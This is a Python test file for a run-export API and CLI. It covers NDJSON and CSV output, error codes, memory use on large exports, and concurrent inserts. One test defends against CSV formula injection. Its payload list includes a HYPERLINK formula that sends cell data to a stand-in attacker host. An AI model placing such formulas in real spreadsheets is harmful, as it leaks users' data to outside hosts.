"""`GET /api/runs/{run_uuid}/export` and `armada export`: a run, its jobs and their events as
one NDJSON or CSV file, parsed back; the real `armada serve` streams a run of many events
with its resident memory flat."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from helpers import event_body, job_body
from server_process import ServiceProcess, service_environment
from test_legacy_tables import LEGACY_ROWS, LEGACY_TABLES

from armada.app import init_app
from armada.config import Config, SqliteSettings
from armada.http import export
from armada.http.export import EXPORT_CSV_COLUMNS, EXPORT_JOBS_CHUNK

MB = 1024 * 1024
MANY_EVENTS = 200_000  # bench/export.py runs the same at 1,000,000
RSS_GROWTH_LIMIT = 25 * MB


async def post(client, path: str, body: dict) -> dict:
    response = await client.post(path, json=body)
    assert response.status in (200, 201), await response.text()
    return await response.json()


async def make_run(client) -> dict:
    """run-x with two jobs: job-a with 3 events, job-b with 2 (one with a comma, quotes
    and a newline in its content); and another run that must not appear."""
    await post(client, "/api/runs/", {"run_uuid": "run-x",
                                      "run_datetime": "2026-02-24T10:00:00.000"})
    for job, minute in (("job-a", 1), ("job-b", 2)):
        await post(client, "/api/jobs/", job_body(job, "run-x",
                                                  job_datetime=f"2026-02-24T10:0{minute}:00"))
    for n in range(3):
        await post(client, "/api/events/", event_body(f"a-{n}", "job-a",
                                                      event_datetime=f"2026-02-24T10:01:0{n}"))
    await post(client, "/api/events/", event_body("b-0", "job-b", event_content="plain"))
    await post(client, "/api/events/", event_body(
        "b-1", "job-b", event_content='Error: "timeout", line 2\nTraceback…'))
    await post(client, "/api/jobs/", job_body("job-other", "run-other"))
    await post(client, "/api/events/", event_body("other-0", "job-other"))
    return {
        "run": await (await client.get("/api/runs/run-x")).json(),
        "jobs": (await (await client.get("/api/jobs/?run_uuid=run-x&page_size=100")).json())
        ["jobs"],
        "events": [event for job in ("job-a", "job-b")
                   for event in await (await client.get(f"/api/events/?job_uuid={job}")).json()],
    }


async def test_ndjson_export_holds_the_run_then_each_job_followed_by_its_events(client):
    expected = await make_run(client)
    response = await client.get("/api/runs/run-x/export")
    assert response.status == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="run-run-x.ndjson"'
    assert response.content_type == "application/x-ndjson"
    lines = [json.loads(line) for line in (await response.text()).splitlines()]
    assert lines[0] == {"kind": "run", "run_uuid": "run-x",
                        "run_datetime": expected["run"]["run_datetime"]}
    jobs = [{k: v for k, v in line.items() if k != "kind"} for line in lines
            if line["kind"] == "job"]
    events = [{k: v for k, v in line.items() if k != "kind"} for line in lines
              if line["kind"] == "event"]
    assert sorted(jobs, key=str) == sorted(expected["jobs"], key=str)
    assert sorted(events, key=str) == sorted(expected["events"], key=str)
    assert lines[-1] == {"kind": "end", "runs": 1, "jobs": 2, "events": 5}
    kinds = [(line["kind"], line.get("job_uuid")) for line in lines[1:-1]]
    for position, (kind, job_uuid) in enumerate(kinds):
        if kind == "event":  # every event comes after its job
            assert ("job", job_uuid) in kinds[:position]


async def test_csv_export_is_one_table_with_a_kind_column_and_parses_back(client):
    expected = await make_run(client)
    response = await client.get("/api/runs/run-x/export?format=csv")
    assert response.status == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="run-run-x.csv"'
    rows = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
    assert tuple(rows[0].keys()) == EXPORT_CSV_COLUMNS
    assert [row["kind"] for row in rows].count("run") == 1
    run = {k: rows[0][k] for k in ("run_uuid", "run_datetime")}
    assert run == {"run_uuid": "run-x", "run_datetime": expected["run"]["run_datetime"]}
    events = [{k: row[k] for k in ("event_uuid", "event_content", "job_uuid", "event_datetime",
                                   "event_status")} for row in rows if row["kind"] == "event"]
    assert sorted(events, key=str) == sorted(expected["events"], key=str)
    assert {row["job_uuid"] for row in rows if row["kind"] == "job"} == {"job-a", "job-b"}
    assert {row["run_uuid"] for row in rows} == {"run-x"}


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


async def test_csv_cells_a_spreadsheet_would_read_as_formulas_start_with_a_quote(client):
    await post(client, "/api/jobs/", job_body("-job", "run-x", job_associated_agent="@agent"))
    for n, content in enumerate([*FORMULAS, "plain", "a=b"]):
        await post(client, "/api/events/", event_body(f"e{n}", "-job", event_content=content))
    response = await client.get("/api/runs/run-x/export?format=csv")
    rows = list(csv.DictReader(io.StringIO(await response.text(), newline="")))

    job = next(row for row in rows if row["kind"] == "job")
    assert (job["job_uuid"], job["job_associated_agent"]) == ("'-job", "'@agent")
    contents = {row["event_content"] for row in rows if row["kind"] == "event"}
    assert contents == {*("'" + formula for formula in FORMULAS), "plain", "a=b"}
    assert {row["job_uuid"] for row in rows if row["kind"] == "event"} == {"'-job"}
    # NDJSON is data for a program, not a spreadsheet: the values as stored.
    lines = (await (await client.get("/api/runs/run-x/export")).text()).splitlines()
    assert {json.loads(line).get("event_content") for line in lines} >= set(FORMULAS)


async def test_export_of_an_unknown_run_is_a_404_json_error(client):
    response = await client.get("/api/runs/nobody/export")
    assert response.status == 404
    assert (await response.json())["error"] == "not_found"


async def test_export_of_an_unknown_format_is_a_422(client):
    await post(client, "/api/runs/", {"run_uuid": "run-x", "run_datetime": "2026-02-24T10:00"})
    response = await client.get("/api/runs/run-x/export?format=xml")
    assert response.status == 422
    assert "format" in (await response.json())["fields"]


def insert_events_directly(db_path: Path, run_uuid: str, jobs: int, events: int) -> None:
    """Many events straight into the SQLite file (executemany): the API would take minutes."""
    connection = sqlite3.connect(db_path)
    with connection:
        connection.execute("INSERT INTO armada_runs VALUES (?, ?)",
                           (run_uuid, "2026-02-24 10:00:00.000000"))
        connection.executemany("INSERT INTO armada_jobs VALUES (?, ?, ?, ?, ?)", [
            (f"job-{j}", run_uuid, "2026-02-24 10:00:00.000000", "agent", "Running")
            for j in range(jobs)])
        connection.executemany("INSERT INTO armada_events VALUES (?, ?, ?, ?, ?)", (
            (f"event-{n:08d}", f"Step {n}: page loaded in {n % 997} ms", f"job-{n % jobs}",
             f"2026-02-24 10:{(n // 60000) % 60:02d}:{(n // 1000) % 60:02d}.{n % 1000:03d}000",
             "Running")
            for n in range(events)))
    connection.close()


def resident_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmRSS for process {pid}")


@pytest.fixture
async def big_service(tmp_path: Path) -> AsyncIterator[ServiceProcess]:
    service = ServiceProcess(tmp_path / "armada.db", tmp_path)
    await asyncio.to_thread(service.start)  # creates the tables
    await asyncio.to_thread(insert_events_directly, service.db_path, "run-big", 10, MANY_EVENTS)
    yield service
    await asyncio.to_thread(service.stop)


@pytest.mark.slow
@pytest.mark.external
async def test_exporting_a_run_of_many_events_keeps_the_server_memory_flat(big_service):
    assert big_service.process is not None
    pid = big_service.process.pid
    url = f"{big_service.url}/api/runs/run-big/export"
    async with aiohttp.ClientSession() as session:
        # Warm: the first chunks size the buffers every later one reuses.
        async with session.get(url) as response:
            await response.content.read(1 << 20)
        before = resident_bytes(pid)
        peak, lines, started = before, 0, time.monotonic()
        async with session.get(url) as response:
            assert response.status == 200
            async for _line in response.content:
                lines += 1
                if lines % 20_000 == 0:
                    peak = max(peak, resident_bytes(pid))
    print(f"\nexport of {MANY_EVENTS} events: {time.monotonic() - started:.1f} s, server RSS "
          f"{before / MB:.0f} MB before, {peak / MB:.0f} MB at most during")
    assert lines == 1 + 10 + MANY_EVENTS + 1  # the run, its jobs and events, the end line
    assert peak - before < RSS_GROWTH_LIMIT


@pytest.mark.slow
@pytest.mark.external
def test_armada_export_writes_the_file_to_stdout(tmp_path: Path):
    service = ServiceProcess(tmp_path / "armada.db", tmp_path)
    service.start()
    try:
        insert_events_directly(service.db_path, "run-cli", 2, 30)
        for kind in ("ndjson", "csv"):
            done = subprocess.run(
                [sys.executable, "-m", "armada", "export", "run-cli", "--format", kind,
                 "--url", service.url], env=service_environment(), capture_output=True,
                timeout=30)
            assert done.returncode == 0, done.stderr
            text = done.stdout.decode()
            if kind == "ndjson":
                assert len([json.loads(line) for line in text.splitlines()]) == 1 + 2 + 30 + 1
            else:
                assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 1 + 2 + 30
        missing = subprocess.run(
            [sys.executable, "-m", "armada", "export", "nobody", "--url", service.url],
            env=service_environment(), capture_output=True, text=True, timeout=30)
        assert missing.returncode == 2
        assert "404" in missing.stderr and "nobody" in missing.stderr
    finally:
        service.stop()


LIVE_JOBS = EXPORT_JOBS_CHUNK + 20
# The newest job's events, 1 kB each: about 12 MB behind its line, more than the socket
# buffers between the server and a reader that stops hold, so the server is still writing
# its first page of jobs when the test adds a job to the run.
FILLER_EVENTS = 12_000
READER_RECEIVE_BUFFER = 64 * 1024


def insert_live_run(db_path: Path) -> None:
    """run-live: LIVE_JOBS jobs, three to a datetime (the uuid breaks the ties), two events
    each, and FILLER_EVENTS more events on the newest job, the first one exported."""
    newest = f"job-{LIVE_JOBS - 1:04d}"
    connection = sqlite3.connect(db_path)
    with connection:
        connection.execute("INSERT INTO armada_runs VALUES ('run-live', ?)",
                           ("2026-02-24 10:00:00.000000",))
        connection.executemany("INSERT INTO armada_jobs VALUES (?, 'run-live', ?, 'agent', "
                               "'Running')", [
            (f"job-{j:04d}", f"2026-02-24 10:{j // 3 // 60:02d}:{j // 3 % 60:02d}.000000")
            for j in range(LIVE_JOBS)])
        connection.executemany("INSERT INTO armada_events VALUES (?, 'Step', ?, ?, 'Running')", [
            (f"event-{j:04d}-{n}", f"job-{j:04d}", f"2026-02-24 10:30:0{n}.000000")
            for j in range(LIVE_JOBS) for n in range(2)])
        connection.executemany("INSERT INTO armada_events VALUES (?, ?, ?, ?, 'Running')", (
            (f"filler-{n:05d}", "x" * 1000, newest,
             f"2026-02-24 11:{n // 60000:02d}:{n // 1000 % 60:02d}.{n % 1000:03d}000")
            for n in range(FILLER_EVENTS)))
    connection.close()


def small_receive_buffer(addr_info: Any) -> socket.socket:
    """The reader's socket, with a receive buffer the kernel does not grow: the server meets
    back-pressure once a few megabytes are on their way."""
    family, kind, proto, _, _ = addr_info
    sock = socket.socket(family, kind, proto)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READER_RECEIVE_BUFFER)
    return sock


@pytest.fixture
async def live_service(tmp_path: Path) -> AsyncIterator[ServiceProcess]:
    service = ServiceProcess(tmp_path / "armada.db", tmp_path)
    await asyncio.to_thread(service.start)  # creates the tables
    await asyncio.to_thread(insert_live_run, service.db_path)
    yield service
    await asyncio.to_thread(service.stop)


@pytest.mark.external
async def test_a_job_added_to_the_run_during_its_export_shifts_no_job_into_the_export_twice(
        live_service):
    before = {f"job-{j:04d}" for j in range(LIVE_JOBS)}
    connector = aiohttp.TCPConnector(socket_factory=small_receive_buffer)
    async with aiohttp.ClientSession(connector=connector) as session:
        async with session.get(f"{live_service.url}/api/runs/run-live/export") as response:
            assert response.status == 200
            lines = [json.loads(await response.content.readline())]
            while lines[-1]["kind"] != "job":  # the first page of jobs has been read
                lines.append(json.loads(await response.content.readline()))
            added = job_body("job-added", "run-live", job_datetime="2026-02-24T12:00:00")
            async with session.post(f"{live_service.url}/api/jobs/", json=added) as created:
                assert created.status == 201, await created.text()
            lines += [json.loads(line) async for line in response.content]

    jobs = [line["job_uuid"] for line in lines if line["kind"] == "job"]
    events = [line["event_uuid"] for line in lines if line["kind"] == "event"]
    assert len(jobs) == len(set(jobs)), sorted(j for j in set(jobs) if jobs.count(j) > 1)
    assert len(events) == len(set(events))
    assert set(jobs) - {"job-added"} == before
    assert len(events) == 2 * LIVE_JOBS + FILLER_EVENTS
    # Newest first, as the jobs list shows them.
    assert [j for j in jobs if j != "job-added"] == sorted(before, reverse=True)


async def test_legacy_jobs_without_a_datetime_are_exported_after_the_dated_ones(
        sqlite_path: Path, aiohttp_client: Any, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(export, "EXPORT_JOBS_CHUNK", 2)  # both parts over several reads
    undated = [f"undated-job-{n}" for n in range(5)]
    with sqlite3.connect(sqlite_path) as db:
        for statement in LEGACY_TABLES + LEGACY_ROWS:
            db.execute(statement)
        db.execute("INSERT INTO armada_jobs VALUES ('old-job-2', 'old-run', "
                   "'2026-02-24 10:35:00.000000', 'agent-7', 'Running')")
        for job_uuid in reversed(undated):
            db.execute("INSERT INTO armada_jobs VALUES (?, 'old-run', NULL, 'agent-7', "
                       "'Success')", (job_uuid,))
            db.execute("INSERT INTO armada_events VALUES (?, 'Done', ?, "
                       "'2026-02-24 10:40:00.000000', 'Success')",
                       (f"{job_uuid}-event", job_uuid))
    client = await aiohttp_client(init_app(Config(database=SqliteSettings(path=sqlite_path))))

    response = await client.get("/api/runs/old-run/export")
    assert response.status == 200
    lines = [json.loads(line) for line in (await response.text()).splitlines()]

    jobs = [(line["job_uuid"], line["job_datetime"]) for line in lines if line["kind"] == "job"]
    assert jobs == [("old-job-2", "2026-02-24T10:35:00.000Z"),
                    ("old-job", "2026-02-24T10:31:00.500Z"),
                    *((job_uuid, None) for job_uuid in undated)]
    kinds = [(line["kind"], line.get("event_uuid") or line.get("job_uuid"))
             for line in lines[1:]]
    for job_uuid in undated:
        position = kinds.index(("job", job_uuid))
        assert kinds[position + 1] == ("event", f"{job_uuid}-event")
